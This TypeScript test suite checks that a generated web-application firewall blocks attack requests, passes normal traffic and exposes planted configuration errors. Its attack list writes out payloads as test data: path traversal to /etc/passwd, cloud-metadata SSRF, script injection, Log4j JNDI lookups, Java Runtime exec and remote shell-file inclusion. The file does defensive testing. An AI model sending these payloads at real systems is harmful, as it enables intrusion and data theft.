import type { ApplicationInput } from "../../config/schema/environment";
import { synthApplication, withApplication } from "../support/synth-environment";
import { EmittedFirewall } from "./support/emitted-firewall";
import { type WebRequest, webRequest } from "./support/web-request";

const emitted = (firewall: NonNullable<ApplicationInput["firewall"]> = {}) =>
  synthApplication(withApplication({ firewall }));
const withDefaults = emitted();
const counting = emitted({ mode: "count" });
const withUploads = emitted({ uploadPaths: ["/files", "/editor/*"] });

const decide = (request: WebRequest, json = withDefaults) =>
  new EmittedFirewall(json).decide(request);

const bytes = (count: number) => "a".repeat(count);
const script = '<script>alert("hello")</script>';
const post = (path: string, body: string) => webRequest(path, { method: "POST", body });

/** The examples of AWS's page, each in the parts of a request that the page names. */
const attacks: [string, WebRequest][] = [
  ["no User-Agent", webRequest("/", { headers: { "user-agent": "" } })],
  ["nmap", webRequest("/", { headers: { "user-agent": "Nmap Scripting Engine" } })],
  ["a query string over 2,048 bytes", webRequest(`/search?q=${bytes(2047)}`)],
  ["a path over 1,024 bytes", webRequest(`/${bytes(1024)}`)],
  ["metadata in the query", webRequest("/?url=http://169.254.169.254/latest/meta-data/")],
  ["metadata in a cookie", webRequest("/", { headers: { cookie: "a=169.254.169.254" } })],
  ["metadata in the path", webRequest("/proxy/169.254.169.254/latest")],
  ["metadata in a body", post("/", "url=http://169.254.169.254/")],
  ["path traversal in the query", webRequest("/?file=../../etc/passwd")],
  ["path traversal in the path", webRequest("/static/%2e%2e/%2e%2e/etc/passwd")],
  ["path traversal in a body", post("/", "file=../../etc/passwd")],
  ["a system file", webRequest("/app.ini")],
  ["a system file in the query", webRequest("/?download=debug.log")],
  ["a remote file in the query", webRequest("/?page=http://192.0.2.7/shell.txt")],
  ["a remote file in a body", post("/", "page=ftp://192.0.2.7/shell.txt")],
  ["a script in the query", webRequest(`/?q=${encodeURIComponent(script)}`)],
  ["a script in a cookie", webRequest("/", { headers: { cookie: `a=${script}` } })],
  ["a script in the path", webRequest(`/${encodeURIComponent(script)}`)],
  ["a script in a body", post("/", script)],
  ["Log4j in a header", webRequest("/", { headers: { "x-api": "${jndi:ldap://example.com/}" } })],
  ["Log4j in the query", webRequest("/?q=${jndi:ldap://example.com/}")],
  ["Log4j in a body", post("/", "${jndi:ldap://example.com/}")],
  ["Java in a body", post("/", '(java.lang.Runtime).getRuntime().exec("whoami")')],
  ["Java in a header", webRequest("/", { headers: { spring: "java.lang.Runtime" } })],
  ["localhost as the host", webRequest("/", { headers: { host: "localhost" } })],
  ["PROPFIND", webRequest("/", { method: "PROPFIND" })],
  ["web-inf", webRequest("/WEB-INF/web.xml")],
];

describe("the firewall with its defaults", () => {
  it.each(attacks)("blocks %s", (_, request) => {
    expect(decide(request).status).toBe(403);
  });

  it.each(attacks)("only counts %s in count mode", (_, request) => {
    expect(decide(request, counting)).toEqual({ status: 200 });
  });

  it.each([
    ["a plain page", webRequest("/?page=2")],
    ["a link to a page of another site", webRequest("/?return_to=https://www.example.com/")],
    ["a callback with a long state", webRequest(`/oauth2/idpresponse?state=${bytes(4000)}`)],
    ["a callback from localhost", webRequest("/oauth2/idpresponse?state=http://localhost/")],
    ["a session of four shards", webRequest("/", { headers: { cookie: `s=${bytes(16_000)}` } })],
    ["an upload", post("/files", bytes(20_000))],
  ])("passes %s", (_, request) => {
    expect(decide(request)).toEqual({ status: 200 });
  });

  it.each([
    ["another path", `/other?state=${bytes(4000)}`],
    ["another case", `/OAUTH2/idpresponse?state=${bytes(4000)}`],
    ["a path below it", `/oauth2/idpresponse/x?state=${bytes(4000)}`],
  ])("has no exception for a long query at %s", (_, target) => {
    expect(decide(webRequest(target))).toEqual({ status: 403, rule: "callback-elsewhere" });
  });

  it("blocks a script at the callback too", () => {
    const target = `/oauth2/idpresponse?state=${encodeURIComponent(script)}`;

    expect(decide(webRequest(target))).toEqual({ status: 403, rule: "core-rule-set" });
  });

  it("returns 429 to an address that sends more than 2,000 requests, and to no other", () => {
    const firewall = new EmittedFirewall(withDefaults);
    const statuses = Array.from({ length: 2001 }, () => firewall.decide(webRequest("/")).status);

    expect(statuses.slice(0, 2000).every((status) => status === 200)).toBe(true);
    expect(statuses[2000]).toBe(429);
    expect(firewall.decide(webRequest("/", { clientAddress: "203.0.113.10" })).status).toBe(200);
  });
});

describe("paths of uploads", () => {
  it.each(["/files", "/editor/new"])("take bodies that look like an attack: %s", (path) => {
    expect(decide(post(path, script), withUploads)).toEqual({ status: 200 });
    expect(decide(post(path, "../../etc/passwd"), withUploads)).toEqual({ status: 200 });
  });

  it.each(["/files/other", "/editor", "/"])("are these alone: not %s", (path) => {
    expect(decide(post(path, script), withUploads)).toEqual({
      status: 403,
      rule: "bodies-elsewhere",
    });
  });

  it("have their query and known bad inputs blocked all the same", () => {
    const log4j = post("/files", "${jndi:ldap://example.com/}");

    expect(decide(log4j, withUploads)).toEqual({ status: 403, rule: "known-bad-inputs" });
    expect(decide(webRequest("/files?q=../../x"), withUploads).status).toBe(403);
  });
});

describe("a mistake in the web ACL", () => {
  const longQuery = webRequest(`/search?q=${bytes(3000)}`);
  const callback = webRequest(`/oauth2/idpresponse?state=${bytes(4000)}`);

  it("shows where a label is spelled like its rule", () => {
    const planted = withDefaults.replaceAll(
      "core-rule-set:SizeRestrictions_QueryString",
      "core-rule-set:SizeRestrictions_QUERYSTRING",
    );

    expect(planted).not.toBe(withDefaults);
    expect(decide(longQuery, planted).status).toBe(200);
  });

  it("shows where an override is missing", () => {
    const planted = withDefaults.replaceAll('"SizeRestrictions_QUERYSTRING"', '"GenericLFI_BODY"');

    expect(planted).not.toBe(withDefaults);
    expect(decide(callback, planted).status).toBe(403);
  });

  it("shows where an override names no rule", () => {
    const planted = withDefaults.replaceAll('"SizeRestrictions_BODY"', '"SizeRestrictions_Body"');

    expect(() => decide(callback, planted)).toThrow("No rule SizeRestrictions_Body");
  });

  it("shows where the exception comes before the rules that label", () => {
    const planted = withDefaults.replaceAll('"priority": 40', '"priority": 25');

    expect(planted).not.toBe(withDefaults);
    expect(decide(longQuery, planted).status).toBe(200);
  });
});
